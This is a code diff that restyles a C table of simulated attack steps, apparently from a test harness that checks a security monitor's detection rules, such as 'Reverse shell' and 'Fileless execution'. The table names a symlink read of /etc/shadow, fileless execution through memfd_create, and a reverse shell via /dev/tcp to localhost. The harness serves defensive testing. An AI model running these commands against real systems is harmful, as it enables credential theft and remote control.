@@ -30,14 +30,15 @@ struct step {
 };
 
 static const struct step steps[] = {
-	{ "A symlink in /tmp leads to /etc/shadow; a program that has no business there reads it",
-	  "cat /tmp/notes.txt", attack_read_through_symlink, "Sensitive file read by unexpected program" },
-	{ "The same file, read by a program that may",
-	  "passwd --status", attack_read_by_allowed_program, NULL },
-	{ "A program that is on no disk: written into memory, started from there",
-	  "memfd_create, write, execveat", attack_run_from_memory, "Fileless execution" },
-	{ "A shell whose keyboard and screen are a network connection",
-	  "sh <> /dev/tcp/127.0.0.1/4444", attack_reverse_shell, "Reverse shell" },
+	{ .title = "A symlink in /tmp leads to /etc/shadow; a program that has no business there reads it",
+	  .command = "cat /tmp/notes.txt", .act = attack_read_through_symlink,
+	  .rule = "Sensitive file read by unexpected program" },
+	{ .title = "The same file, read by a program that may", .command = "passwd --status",
+	  .act = attack_read_by_allowed_program },
+	{ .title = "A program that is on no disk: written into memory, started from there",
+	  .command = "memfd_create, write, execveat", .act = attack_run_from_memory, .rule = "Fileless execution" },
+	{ .title = "A shell whose keyboard and screen are a network connection",
+	  .command = "sh <> /dev/tcp/127.0.0.1/4444", .act = attack_reverse_shell, .rule = "Reverse shell" },
 };
 
 static int step_run(struct agent *agent, const struct step *step, unsigned int number)
